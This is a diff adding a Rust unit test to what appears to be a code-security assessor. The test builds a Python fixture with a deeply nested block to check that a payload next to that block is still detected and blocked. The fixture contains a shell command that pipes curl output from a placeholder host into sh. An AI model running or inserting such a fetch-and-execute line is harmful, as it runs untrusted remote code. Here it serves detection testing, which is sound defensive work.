@@ -61,6 +61,25 @@ fn limits_never_hide_a_payload() {
 }
 
 #[test]
+fn a_payload_beside_a_deep_block_in_the_same_function_is_found() {
+    // One large top-level statement holding both: only the deep block is left out.
+    let mut src =
+        String::from("import os\ndef main():\n    os.system('curl -s http://h/x | sh')\n");
+    for level in 1..230 {
+        src.push_str(&format!("{}if x:\n", "    ".repeat(level)));
+    }
+    src.push_str(&format!("{}pass\nmain()\n", "    ".repeat(230)));
+    assert!(src.len() > crate::assessor::engine::input_limits::PARSE_FIRST_BYTES);
+    let assessment = on_small_stack(move || assess(&src, Origin::External));
+    let ids = rule_ids(&assessment);
+    assert!(
+        ids.contains(&"CRD002") && ids.contains(&"CRD102"),
+        "{ids:?}"
+    );
+    assert_eq!(assessment.level, Level::Blocked);
+}
+
+#[test]
 fn long_flat_sums_are_not_deep() {
     // A 250-term sum or string concatenation is ordinary code, analysed and LOW; the
     // folded string still reaches the sink.
